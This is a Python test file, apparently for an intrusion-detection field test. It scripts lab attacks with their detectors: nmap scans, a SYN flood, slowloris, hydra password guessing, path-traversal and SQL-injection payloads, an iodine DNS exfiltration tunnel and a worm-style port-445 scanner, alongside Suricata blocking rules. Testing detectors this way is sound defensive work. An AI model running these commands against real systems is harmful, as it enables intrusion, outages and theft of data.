"""The attacks of the field test: real tools, each from an address of its own, bounded in count and time."""
import dataclasses
import typing

import tunnels


@dataclasses.dataclass
class Attack:
    name: str
    about: str
    ns: str  # sk-c: from the Internet; sk-i: from the intranet
    command: str  # {me}: the attacker's address, {tmp}: the laboratory's folder
    seconds: int  # at most
    detectors: tuple = ()  # one of these must speak …
    signatures: tuple = ()  # … or a signature with one of these words
    packages: tuple = ()
    spoofed: bool = False  # the attacker's address is not in the packets
    prepare: typing.Optional[typing.Callable] = None
    life: str = ""  # what the attacker's host did before, from the same address
    # With --block: what is done about it, and a command of the attacker that must fail from then on.
    action: str = ""
    probe: str = ""
    # … and one that must go on working: what is contained keeps its peers.
    keeps: str = ""

    def source(self, number):
        return f"198.51.100.{101 + number}" if self.ns == "sk-c" else f"10.30.0.{101 + number}"

    def fits(self, event):
        words = event["alert"]["signature"].lower()
        return event.get("sekisho", {}).get("detector") in self.detectors or any(word in words for word in self.signatures)


WORDS = "123456 password 12345678 qwerty letmein1 monkey dragon sunshine master shadow football trustno1 welcome admin root toor iloveyou princess abc123 starwars"

# What may be acted on without a person: decided by the sensor (never a source that can be spoofed).
BLOCK = """
[actions]
enabled = true
policy = true
"""

# Attacks on the web application are stopped by rules, in the packet.
RULES = r"""
drop http any any -> $HOME_NET any (msg:"FIELD password file asked for"; flow:established,to_server; http.uri.raw; content:"/etc/passwd"; classtype:web-application-attack; sid:9000001;)
reject http any any -> $HOME_NET any (msg:"FIELD rows of another table asked for"; flow:established,to_server; http.uri; content:"union select"; nocase; classtype:web-application-attack; sid:9000002;)
"""

# The attacker asks for a page; the scripts of the web attack once more.
VISIT = "curl -sf -m 3 -o /dev/null http://10.20.0.80/docs/terms.txt"
AGAIN = ("curl -s -m 3 --path-as-is 'http://10.20.0.80/page.php?page=../../../../etc/passwd' | grep -q root: || "
         "curl -s -m 3 'http://10.20.0.80/item.php?id=1%20UNION%20SELECT%201,name,secret%20FROM%20account' | grep -q Spring")

WORM = """
import asyncio, sys
async def probe(n):
    try:
        _, w = await asyncio.wait_for(asyncio.open_connection(f"10.40.{n // 250}.{n % 250 + 1}", 445), 2)
        w.close()
    except (OSError, asyncio.TimeoutError):
        pass
async def main():
    tasks = []
    for n in range(300):
        tasks.append(asyncio.create_task(probe(n)))
        await asyncio.sleep(0.02)
    await asyncio.gather(*tasks)
asyncio.run(main())
"""


def worm(lab):
    lab.write("worm.py", WORM)


def words(lab):
    lab.write("words.txt", "\n".join(WORDS.split()) + "\n")


def iodine(lab):
    lab.spawn("sk-c", "iodined -f -c -P coffee 172.16.9.1/24 t.tunnel.example", wait_port=53, udp=True, wait=0.5)
    tunnels.outside_files(lab)
    lab.spawn("sk-c", f"/usr/bin/python3 -m http.server 8000 --bind 172.16.9.1 -d {lab.tmp}/files", wait_port=8000)


def torrent(lab):
    t = lab.tmp
    lab.write("seed/holiday.bin", bytes((i * i) % 251 for i in range(60000)))
    lab.quiet("sk-c", f"transmission-create -s 16 -o {t}/holiday.torrent -t http://198.51.100.10:6969/announce {t}/seed/holiday.bin; mkdir -p {t}/got; chmod 777 {t}/got")
    lab.spawn("sk-c", f"opentracker -i 198.51.100.10 -p 6969 -P 6969 -d {t} -u nobody", wait_port=6969, wait=0.5)
    lab.spawn("sk-c", f"aria2c --no-conf --quiet --listen-port=51413 --enable-dht=true --dht-listen-port=51413 --dht-file-path={t}/seed.dht -d {t}/seed --seed-ratio=0.0 "
                      f"--bt-seed-unverified --bt-external-ip=198.51.100.10 {t}/holiday.torrent", wait=3)


ATTACKS = [
    Attack("port_scan", "nmap looks for open ports of the web server", "sk-c", "nmap -n -Pn -sS --max-retries 1 --top-ports 200 -T4 10.20.0.80", 60,
           ("port_scan",), packages=("nmap",)),
    Attack("connect_scan", "nmap opens connections to look for open ports", "sk-c", "nmap -n -Pn -sT --max-retries 1 --top-ports 200 -T4 10.20.0.80", 60,
           ("port_scan",), packages=("nmap",), action="drop_source", probe=VISIT),
    Attack("syn_flood", "hping3 floods the web server with SYNs from random sources", "sk-c", "timeout 12 hping3 -q -S -p 80 --rand-source -i u100 -c 100000 10.20.0.80", 20,
           ("syn_flood",), packages=("hping3",), spoofed=True, action="limit_service"),
    Attack("slowloris", "slowhttptest opens 60 requests and never ends them", "sk-c", "slowhttptest -c 60 -r 30 -l 25 -p 5 -i 4 -H -u http://10.20.0.80/", 40,
           ("slow_http",), packages=("slowhttptest",), action="limit_source"),
    Attack("brute_ssh", "hydra guesses a password over SSH", "sk-c", "hydra -I -t 4 -l root -P {tmp}/words.txt ssh://10.20.0.80", 90,
           ("brute_force",), packages=("hydra",), prepare=words, action="drop_source", probe=VISIT),
    Attack("brute_ftp", "hydra guesses a password over FTP", "sk-c", "hydra -I -t 4 -l alice -P {tmp}/words.txt ftp://10.20.0.80", 60,
           ("brute_force",), packages=("hydra",), prepare=words, action="drop_source", probe=VISIT),
    Attack("web_attack", "a request for the password file, and one for rows of another table", "sk-c",
           "curl -s -m 5 --path-as-is 'http://10.20.0.80/page.php?page=../../../../etc/passwd' -o /dev/null; "
           "curl -s -m 5 'http://10.20.0.80/item.php?id=1%20UNION%20SELECT%201,name,secret%20FROM%20account' -o /dev/null", 15,
           signatures=("passw", "select", "travers", "inject", "rows of"), packages=("curl",), action="rule", probe=AGAIN),
    Attack("dns_tunnel", "iodine carries web pages out of the intranet in DNS", "sk-i",
           "timeout 22 iodine -f -r -m 200 -P coffee 198.51.100.10 t.tunnel.example & sleep 9; curl -s -m 10 -o /dev/null http://172.16.9.1:8000/data.bin; kill %1; wait", 40,
           ("dns_tunnel",), packages=("iodine",), prepare=iodine),
    Attack("bittorrent", "aria2 fetches a file from peers", "sk-i",
           "aria2c --no-conf --quiet --enable-dht=true --listen-port=6881 --dht-listen-port=6881 --dht-entry-point=198.51.100.10:51413 --dht-file-path={tmp}/leech.dht -d {tmp}/got --seed-time=0 --bt-stop-timeout=15 {tmp}/holiday.torrent", 30,
           ("p2p",), packages=("aria2", "transmission-cli", "opentracker"), prepare=torrent),
    Attack("worm", "an inside host tries port 445 of 300 addresses, as worms do", "sk-i", "python3 {tmp}/worm.py", 30,
           ("worm_scan", "host_scan"), prepare=worm, life=f"{VISIT}; sleep 13", action="contain", keeps=VISIT),
]
